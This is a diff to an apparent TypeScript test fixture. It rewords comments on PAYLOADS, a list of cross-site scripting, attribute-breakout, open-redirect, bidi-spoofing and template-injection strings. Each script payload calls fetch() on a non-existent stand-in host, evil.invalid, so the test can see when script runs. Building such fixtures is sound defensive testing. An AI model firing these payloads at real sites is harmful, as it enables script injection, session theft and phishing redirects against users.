@@ -1,11 +1,13 @@
-/** Loads this when it runs, so that a run shows as a request; no such host exists. */
+/**
+ * A script that runs requests this address, so that the test notices it; the host does not exist.
+ */
 const BEACON = '//evil.invalid/x';
 
 const RUN = `fetch('https:${BEACON}')`;
 
 /**
- * What somebody would type into a text field to run script, load something or break out of the
- * place it is shown in.
+ * Texts that somebody might type into a field to run script, to load something, or to break out of
+ * the place that shows them.
  */
 export const PAYLOADS: string[] = [
   // Elements
@@ -44,7 +46,7 @@ export const PAYLOADS: string[] = [
   `<table background="https:${BEACON}.png"><tr><td>x`,
   `<isindex action="javascript:${RUN}">`,
   `<x onclick=${RUN} id=facts tabindex=0>x</x>`,
-  // Out of attributes and elements that are open
+  // Ways out of open attributes and elements
   `"><script>${RUN}</script>`,
   `'><img src=x onerror=${RUN}>`,
   `" onmouseover="${RUN}`,
@@ -84,7 +86,7 @@ export const PAYLOADS: string[] = [
   `https://bank.example@evil.invalid/`,
   `//evil.invalid/`,
   `/\\evil.invalid/`,
-  // Text that looks like other text
+  // Text that looks different from what it is
   '\u202egpj.exe',
   '\u2066\u2067x\u2069\u2069',
   `{{constructor.constructor('${RUN}')()}}`,
